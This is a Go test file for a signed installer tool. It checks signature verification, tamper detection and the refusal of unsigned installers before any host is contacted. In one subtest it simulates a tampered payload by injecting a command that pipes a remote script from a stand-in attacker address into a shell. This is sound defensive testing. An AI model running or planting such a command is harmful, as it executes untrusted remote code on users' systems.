package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/binary"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash/crc32"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"

	"github.com/sealpack/sealpack/internal/signature"
	"github.com/sealpack/sealpack/payload"
)

// vendorKeys are a vendor's key, another vendor's, and a key of the other
// type, with their .pub files in dir.
type vendorKeys struct {
	dir                 string
	vendor, other, ecds *signature.PrivateKey
}

func newVendorKeys(t *testing.T) *vendorKeys {
	t.Helper()
	k := &vendorKeys{dir: t.TempDir()}
	for name, dst := range map[string]**signature.PrivateKey{"vendor": &k.vendor, "other": &k.other, "ecdsa": &k.ecds} {
		typ := signature.Ed25519
		if name == "ecdsa" {
			typ = signature.ECDSAP256
		}
		key, err := signature.Generate(typ)
		if err != nil {
			t.Fatal(err)
		}
		*dst = key
		os.WriteFile(k.pub(name), signature.MarshalPublicKey(key.Public()), 0o644)
		priv, _ := signature.MarshalPrivateKey(key, nil)
		os.WriteFile(filepath.Join(k.dir, name+".key"), priv, 0o600)
	}
	p384, _ := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	der, _ := x509.MarshalPKIXPublicKey(&p384.PublicKey)
	os.WriteFile(k.pub("p384"), pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0o644)
	return k
}

func (k *vendorKeys) pub(name string) string { return filepath.Join(k.dir, name+".pub") }

// sign signs the installer at path in place, as sealpack sign does.
func sign(t *testing.T, path string, key *signature.PrivateKey, name string) {
	t.Helper()
	if err := payload.SignFile(path, key.PayloadSigner(name)); err != nil {
		t.Fatal(err)
	}
}

// checkWith runs the bare installer program over the installer file at
// path (SEALPACK_PAYLOAD), so that a damaged program is checked by a sound
// one, and returns its output and status.
func checkWith(t *testing.T, path string, args ...string) (string, int) {
	t.Helper()
	stub, err := stubOnce()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	os.Symlink(stub, filepath.Join(dir, "app-installer.run"))
	return runInstaller(t, dir, cleanEnv(t, payloadEnv+"="+path), args...)
}

// layout is where the parts of an installer lie (FORMAT.md).
type layout struct {
	stubSize, indexOff, indexLen, blockEnd int64
	flags                                  uint32
}

func layoutOf(t *testing.T, b []byte) layout {
	t.Helper()
	tr := b[len(b)-payload.TrailerSize:]
	return layout{
		flags:    binary.LittleEndian.Uint32(tr[12:]),
		stubSize: int64(binary.LittleEndian.Uint64(tr[16:])),
		indexOff: int64(binary.LittleEndian.Uint64(tr[24:])),
		indexLen: int64(binary.LittleEndian.Uint64(tr[32:])),
		blockEnd: int64(len(b) - payload.TrailerSize),
	}
}

// reindex rewrites the installer at path by hand, as someone who alters a
// payload would: its index decoded, edited, encoded again, and the trailer
// given the new index's offset, length, sha256 and checksum. The data, the
// program and the signature block stay as they were.
func reindex(t *testing.T, path string, edit func(*payload.Index)) {
	t.Helper()
	b, _ := os.ReadFile(path)
	l := layoutOf(t, b)
	raw, err := zstdDecode(b[l.indexOff : l.indexOff+l.indexLen])
	if err != nil {
		t.Fatal(err)
	}
	var idx payload.Index
	if err := json.Unmarshal(raw, &idx); err != nil {
		t.Fatal(err)
	}
	edit(&idx)
	raw, _ = json.Marshal(&idx)
	enc, _ := zstd.NewWriter(nil)
	stored := enc.EncodeAll(raw, nil)
	block := b[l.indexOff+l.indexLen : l.blockEnd]
	tr := bytes.Clone(b[l.blockEnd:])
	binary.LittleEndian.PutUint64(tr[32:], uint64(len(stored)))
	sum := sha256.Sum256(stored)
	copy(tr[40:72], sum[:])
	binary.LittleEndian.PutUint32(tr[72:], crc32.ChecksumIEEE(tr[:72]))
	out := append(append(append(bytes.Clone(b[:l.indexOff]), stored...), block...), tr...)
	if err := os.WriteFile(path, out, 0o755); err != nil {
		t.Fatal(err)
	}
}

func zstdDecode(b []byte) ([]byte, error) {
	d, err := zstd.NewReader(nil)
	if err != nil {
		return nil, err
	}
	defer d.Close()
	return d.DecodeAll(b, nil)
}

func mustContain(t *testing.T, what, out string, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if !strings.Contains(out, w) {
			t.Errorf("%s does not say %q:\n%s", what, w, out)
		}
	}
}

// TestVerifyKey: a signed installer verifies with its vendor's key, and
// fails, each time saying what failed, with another key, a key of the
// other type or of a type sealpack does not sign with, a private key, and
// unsigned. Without a key, verify says who signed but that it did not check.
func TestVerifyKey(t *testing.T) {
	k := newVendorKeys(t)
	dir := t.TempDir()
	exe := smallInstaller(t, dir)
	out, code := runInstaller(t, dir, cleanEnv(t), "verify", "--key", k.pub("vendor"))
	if code == 0 {
		t.Fatalf("an unsigned installer passed verify --key:\n%s", out)
	}
	mustContain(t, "verify --key of an unsigned installer", out, "NOT SIGNED", "Do not use this installer")
	out, code = runInstaller(t, dir, cleanEnv(t), "verify")
	if code != 0 {
		t.Fatalf("verify: status %d\n%s", code, out)
	}
	mustContain(t, "verify of an unsigned installer", out, "signature: NOT SIGNED\n", "ok: ")

	sign(t, exe, k.vendor, "acme")
	id := k.vendor.Public().ID()
	out, code = runInstaller(t, dir, cleanEnv(t), "verify", "--key", k.pub("vendor"))
	if code != 0 {
		t.Fatalf("verify --key with the vendor's key: status %d\n%s", code, out)
	}
	mustContain(t, "verify --key", out, "signature: signed by acme ("+id+"), checked with "+k.pub("vendor")+"\n", "ok: ")
	if strings.Index(out, "signature:") > strings.Index(out, "ok: ") {
		t.Errorf("the signature was not checked first:\n%s", out)
	}
	out, _ = runInstaller(t, dir, cleanEnv(t), "verify")
	mustContain(t, "verify without a key", out, "signature: signed by acme ("+id+"), not checked")

	for name, wants := range map[string][]string{
		"other":  {"signed by another key", id, k.other.Public().ID()},
		"ecdsa":  {"signed by another key", id, "ECDSA P-256 key " + k.ecds.Public().ID()},
		"p384":   {"an ECDSA P-384 key: sealpack signs with ed25519 or ECDSA P-256 keys"},
		"rsa":    {"no such file"}, // a missing key file is named too
		"vendor": nil,
	} {
		key := k.pub(name)
		if name == "rsa" {
			key = filepath.Join(k.dir, "missing.pub")
		}
		out, code := runInstaller(t, dir, cleanEnv(t), "verify", "--key", key)
		if (code == 0) != (wants == nil) {
			t.Errorf("verify --key %s: status %d\n%s", name, code, out)
		}
		mustContain(t, "verify --key "+name, out, wants...)
	}
	out, code = runInstaller(t, dir, cleanEnv(t), "verify", "--key", filepath.Join(k.dir, "vendor.key"))
	if code == 0 {
		t.Errorf("a private key was taken as the public key:\n%s", out)
	}
	mustContain(t, "verify --key vendor.key", out, "a private key: give the vendor's public key")
}

// TestVerifyKeyDamaged: after a flipped byte anywhere (the program, the
// data, the index, the signature block, the trailer), verify --key fails
// and names the part; the installer is checked by a sound program.
func TestVerifyKeyDamaged(t *testing.T) {
	k := newVendorKeys(t)
	dir := t.TempDir()
	exe := writeInstaller(t, filepath.Join(dir, "app-installer.run"), installerSpec{
		files:  map[string]entry{"etc/a.txt": bytesEntry(strings.Repeat("config line\n", 3000)), "bin/tool": {data: bytes.Repeat([]byte{7, 1, 2}, 1<<16)}},
		labels: map[string]string{payload.LabelTitle: "tiny", payload.LabelVersion: "0.1"},
	})
	sign(t, exe, k.vendor, "acme")
	good, _ := os.ReadFile(exe)
	if out, code := checkWith(t, exe, "verify", "--key", k.pub("vendor")); code != 0 {
		t.Fatalf("the sound installer fails: %d\n%s", code, out)
	}
	l := layoutOf(t, good)
	blockStart := l.indexOff + l.indexLen
	for name, tc := range map[string]struct {
		at   int64
		want string
	}{
		"program": {l.stubSize / 2, "installer program (first"},
		"data":    {l.stubSize + (l.indexOff-l.stubSize)/2, "checksum mismatch"},
		"index":   {l.indexOff + l.indexLen/2, "index: payload: checksum mismatch"},
		"block":   {blockStart + (l.blockEnd-blockStart)/2, "signature block truncated or garbled"},
		"trailer": {l.blockEnd + 30, "trailer"},
	} {
		t.Run(name, func(t *testing.T) {
			b := bytes.Clone(good)
			b[tc.at] ^= 0x10
			bad := filepath.Join(t.TempDir(), "app-installer.run")
			os.WriteFile(bad, b, 0o755)
			out, code := checkWith(t, bad, "verify", "--key", k.pub("vendor"))
			if code == 0 {
				t.Fatalf("a byte flipped in the %s at %d passed verify --key:\n%s", name, tc.at, out)
			}
			mustContain(t, "verify --key", out, tc.want)
		})
	}
}

// TestVerifyKeySwappedOrReindexed: a signature block from another build
// (same key) and a payload re-indexed by hand both pass plain verify's
// checks of the bytes, and fail the signature check, which names both
// indexes.
func TestVerifyKeySwappedOrReindexed(t *testing.T) {
	k := newVendorKeys(t)
	dir := t.TempDir()
	exe := smallInstaller(t, dir)
	sign(t, exe, k.vendor, "acme")
	r, err := payload.Open(exe)
	if err != nil {
		t.Fatal(err)
	}
	signedIndex := r.Digest()
	r.Close()

	t.Run("swapped", func(t *testing.T) {
		other := writeInstaller(t, filepath.Join(t.TempDir(), "app-installer.run"), installerSpec{
			files:  map[string]entry{"etc/readme.txt": bytesEntry("hello, 2\n")},
			labels: map[string]string{payload.LabelTitle: "tiny", payload.LabelVersion: "0.2"},
		})
		sign(t, other, k.vendor, "acme")
		ro, err := payload.Open(other)
		if err != nil {
			t.Fatal(err)
		}
		block, _ := ro.Signature()
		otherIndex := ro.Digest()
		ro.Close()
		target := filepath.Join(t.TempDir(), "app-installer.run")
		b, _ := os.ReadFile(exe)
		os.WriteFile(target, b, 0o755)
		if err := payload.SignFile(target, func([32]byte, *payload.Index) ([]byte, error) { return block, nil }); err != nil {
			t.Fatal(err)
		}
		out, code := checkWith(t, target, "verify")
		if code != 0 {
			t.Fatalf("the swapped installer fails plain verify, so the test proves nothing: %d\n%s", code, out)
		}
		out, code = checkWith(t, target, "verify", "--key", k.pub("vendor"))
		if code == 0 {
			t.Fatalf("a swapped signature block passed verify --key:\n%s", out)
		}
		mustContain(t, "verify --key", out, "the signature is over index "+otherIndex, "this installer's index is "+signedIndex)
	})
	t.Run("reindexed", func(t *testing.T) {
		target := filepath.Join(t.TempDir(), "app-installer.run")
		b, _ := os.ReadFile(exe)
		os.WriteFile(target, b, 0o755)
		reindex(t, target, func(idx *payload.Index) { idx.Cmds = append(idx.Cmds, "curl -s http://203.0.113.9/x | sh") })
		out, code := checkWith(t, target, "verify")
		if code != 0 {
			t.Fatalf("the re-indexed installer fails plain verify, so the test proves nothing: %d\n%s", code, out)
		}
		mustContain(t, "plain verify", out, "signed by acme", "not checked", "ok: ")
		out, code = checkWith(t, target, "verify", "--key", k.pub("vendor"))
		if code == 0 {
			t.Fatalf("a re-indexed installer passed verify --key:\n%s", out)
		}
		mustContain(t, "verify --key", out, "the signature is over index "+signedIndex, "re-indexed")
	})
}

// TestInspectSignature: inspect says NOT SIGNED or who signed, in text and
// JSON, checks with --key, and prints the envelope alone with --signature.
func TestInspectSignature(t *testing.T) {
	k := newVendorKeys(t)
	dir := t.TempDir()
	exe := smallInstaller(t, dir)
	out, _ := runInstaller(t, dir, cleanEnv(t), "inspect")
	if !regexp.MustCompile(`\nSignature: +NOT SIGNED\n`).MatchString(out) || !regexp.MustCompile(`\nIndex: +sha256:[0-9a-f]{64}\n`).MatchString(out) {
		t.Errorf("inspect does not say NOT SIGNED and the index:\n%s", out)
	}
	if out, code := runInstaller(t, dir, cleanEnv(t), "inspect", "--signature"); code == 0 || !strings.Contains(out, "NOT SIGNED") {
		t.Errorf("inspect --signature of an unsigned installer: %d\n%s", code, out)
	}
	sign(t, exe, k.ecds, "acme")
	id := k.ecds.Public().ID()
	out, _ = runInstaller(t, dir, cleanEnv(t), "inspect")
	mustContain(t, "inspect", out, " signed by acme ("+id+"), not checked (verify --key KEY checks it)\n")
	out, code := runInstaller(t, dir, cleanEnv(t), "inspect", "--key", k.pub("ecdsa"))
	if code != 0 {
		t.Fatalf("inspect --key: %d\n%s", code, out)
	}
	mustContain(t, "inspect --key", out, "checked with "+k.pub("ecdsa"))
	if out, code := runInstaller(t, dir, cleanEnv(t), "inspect", "--key", k.pub("vendor")); code == 0 || !strings.Contains(out, "signed by another key") {
		t.Errorf("inspect --key with another key: %d\n%s", code, out)
	}
	js, _ := runInstaller(t, dir, cleanEnv(t), "inspect", "--json")
	var rep payload.Report
	if err := json.Unmarshal([]byte(js), &rep); err != nil {
		t.Fatalf("%v\n%s", err, js)
	}
	r, _ := payload.Open(exe)
	defer r.Close()
	if want := (payload.ReportSignature{Signed: true, Signer: "acme", KeyID: id}); rep.Signature != want || rep.Index != r.Digest() {
		t.Errorf("inspect --json: signature %+v, index %s; want %+v, %s", rep.Signature, rep.Index, want, r.Digest())
	}
	env, code := runInstaller(t, dir, cleanEnv(t), "inspect", "--signature")
	block, _ := r.Signature()
	if code != 0 || env != string(block)+"\n" {
		t.Errorf("inspect --signature: %d\n%s\nwant the block:\n%s", code, env, block)
	}
}

// sshTrap is a TCP listener where a Clusterfile's hosts point (their SSH
// port on loopback): it counts every connection made to it, so that a test
// shows that no host was contacted.
type sshTrap struct {
	ln    net.Listener
	conns atomic.Int32
}

func newSSHTrap(t *testing.T) *sshTrap {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tr := &sshTrap{ln: ln}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			tr.conns.Add(1)
			c.Close()
		}
	}()
	return tr
}

func (tr *sshTrap) port() int { return tr.ln.Addr().(*net.TCPAddr).Port }

// clusterfile is a Clusterfile whose one master is the trap; extra goes
// under spec.
func (tr *sshTrap) clusterfile(t *testing.T, dir, extra string) string {
	t.Helper()
	cf := filepath.Join(dir, "Clusterfile")
	body := fmt.Sprintf("apiVersion: sealer.io/v2\nkind: Cluster\nmetadata: {name: trap}\nspec:\n%s  ssh: {user: root, passwd: not-used, port: %d}\n  hosts:\n    - ips: [127.0.0.1]\n      roles: [master]\n", extra, tr.port())
	if err := os.WriteFile(cf, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return cf
}

// TestRequireSignatureUnattended: --require-signature (and the Clusterfile's
// spec.requireSignature, relative to the Clusterfile) refuse an unsigned or
// wrongly signed installer before any host is contacted, in --unattended and
// in join; a rightly signed one goes on to the hosts.
func TestRequireSignatureUnattended(t *testing.T) {
	k := newVendorKeys(t)
	trap := newSSHTrap(t)
	dir := t.TempDir()
	exe := smallInstaller(t, dir)
	site := filepath.Join(t.TempDir(), "site")
	os.MkdirAll(filepath.Join(site, "keys"), 0o755)
	b, _ := os.ReadFile(k.pub("vendor"))
	os.WriteFile(filepath.Join(site, "keys", "vendor.pub"), b, 0o644)
	plain := trap.clusterfile(t, t.TempDir(), "")
	pinned := trap.clusterfile(t, site, "  requireSignature: keys/vendor.pub\n")

	refused := func(state string, wants ...string) {
		t.Helper()
		for _, args := range [][]string{
			{"--unattended", "-f", plain, "--require-signature", k.pub("vendor")},
			{"--unattended", "-f", pinned},
			{"--unattended", "-f", pinned, "--dry-run"},
			{"join", "-f", plain, "--nodes", "127.0.0.2", "--require-signature", k.pub("vendor")},
			{"join", "-f", pinned, "--nodes", "127.0.0.2"},
			{"reset", "-f", pinned, "--yes"},
		} {
			out, code := runInstaller(t, dir, cleanEnv(t), args...)
			if code == 0 {
				t.Errorf("%s installer, %v: status 0\n%s", state, args, out)
			}
			mustContain(t, fmt.Sprintf("%s installer, %v", state, args), out, append([]string{"refusing to go on, as ", "No host was touched"}, wants...)...)
			if n := trap.conns.Load(); n != 0 {
				t.Fatalf("%s installer, %v: %d connections to the hosts' SSH port", state, args, n)
			}
		}
	}
	refused("an unsigned", "NOT SIGNED")
	sign(t, exe, k.other, "mallory")
	refused("another vendor's", "signed by another key", k.other.Public().ID(), k.vendor.Public().ID())

	// Rightly signed, the install goes on to the hosts: the trap sees it
	// (so that its zero above means no connection was made).
	sign(t, exe, k.vendor, "acme")
	out, code := runInstaller(t, dir, cleanEnv(t), "--unattended", "-f", pinned, "--dry-run")
	if strings.Contains(out, "refusing to go on") || code == 0 {
		t.Fatalf("status %d with the vendor's signature (want a failure at the trap, not a refusal):\n%s", code, out)
	}
	if trap.conns.Load() == 0 {
		t.Errorf("the rightly signed installer did not reach the host:\n%s", out)
	}
}

// TestRequireSignatureWizard: started with --require-signature, the wizard
// refuses an unsigned installer before its first screen, contacting no
// host; a rightly signed one shows on its first screen who signed it and
// that the key checked it; without a key, an unsigned one says NOT SIGNED.
func TestRequireSignatureWizard(t *testing.T) {
	needTmux(t)
	k := newVendorKeys(t)
	trap := newSSHTrap(t)
	dir := t.TempDir()
	exe := smallInstaller(t, dir)
	cf := trap.clusterfile(t, dir, "")
	term := startTerminal(t, dir, "./app-installer.run -f "+shQuote(cf)+" --require-signature "+shQuote(k.pub("vendor")))
	code, scr := term.exitStatus(20 * time.Second)
	if code == 0 || !strings.Contains(scr, "refusing to go on") || !strings.Contains(scr, "NOT SIGNED") || strings.Contains(scr, "Welcome") {
		t.Errorf("status %d, want a refusal before the first screen:\n%s", code, scr)
	}
	if n := trap.conns.Load(); n != 0 {
		t.Errorf("%d connections to the hosts' SSH port", n)
	}

	term = startTerminal(t, dir, "./app-installer.run -f "+shQuote(cf))
	term.waitFor(20*time.Second, "Welcome", "Signature  NOT SIGNED")
	term.keys("C-c")
	term.waitFor(5*time.Second, "Quit the installer?")
	term.keys("y")
	term.exitStatus(10 * time.Second)

	sign(t, exe, k.vendor, "acme")
	term = startTerminal(t, dir, "./app-installer.run -f "+shQuote(cf)+" --require-signature "+shQuote(k.pub("vendor")))
	term.waitFor(20*time.Second, "Welcome", "Signature  signed by acme ("+k.vendor.Public().ID()+")", "✓ checked with "+k.pub("vendor"))
	term.keys("C-c")
	term.waitFor(5*time.Second, "Quit the installer?")
	term.keys("y")
	term.exitStatus(10 * time.Second)
	if n := trap.conns.Load(); n != 0 {
		t.Errorf("%d connections to the hosts' SSH port before any screen asked for one", n)
	}
}
